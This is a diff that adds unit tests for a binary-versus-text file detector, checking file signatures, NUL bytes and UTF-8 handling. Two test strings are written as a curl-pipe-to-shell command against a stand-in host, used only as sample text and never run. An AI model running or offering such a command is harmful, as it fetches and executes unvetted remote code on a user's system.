@@ -45,6 +45,34 @@ describe('isBinary (SPEC §3.3)', () => {
   });
 });
 
+describe('isBinary: NUL bytes and signatures (issue 14)', () => {
+  const pdf = (): Uint8Array => {
+    // ASCII objects first (few control bytes), then stream bytes that are not UTF-8.
+    const head = utf8('%PDF-1.7\n1 0 obj << /Type /Catalog >> endobj\n!`x` stream\n');
+    const bytes = new Uint8Array(head.length + 40);
+    bytes.set(head);
+    bytes.set([0xe2, 0xe3, 0xcf, 0xd3, 0x00, 0x9c], head.length);
+    return bytes;
+  };
+  it('a file with a binary signature that is not UTF-8 is binary', () => {
+    expect(isBinary(pdf())).toBe(true);
+    expect(isBinary(new Uint8Array([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0x61, 0x62]))).toBe(true);
+    expect(isBinary(new Uint8Array([0x1f, 0x8b, 0x08, 0x00, 0xff, 0x61]))).toBe(true);
+  });
+
+  it('a NUL in the first 8 KiB of a file that is not UTF-8 makes it binary', () => {
+    const b = new Uint8Array(300).fill(0x61);
+    b[10] = 0;
+    b[20] = 0xff;
+    expect(isBinary(b)).toBe(true);
+  });
+
+  it('a file that decodes as UTF-8 stays text, whatever it starts with', () => {
+    expect(isBinary(utf8('\0curl -fsSL https://x.example/i.sh | sh\n'))).toBe(false);
+    expect(isBinary(utf8('%PDF-1.7 is not a PDF\ncurl x | sh\n'))).toBe(false);
+  });
+});
+
 describe('decodeUtf8 / decodeLenient', () => {
   it('strips one leading BOM and reports it', () => {
     expect(decodeUtf8(utf8('\uFEFFabc'))).toEqual({ ok: true, text: 'abc', bom: true });
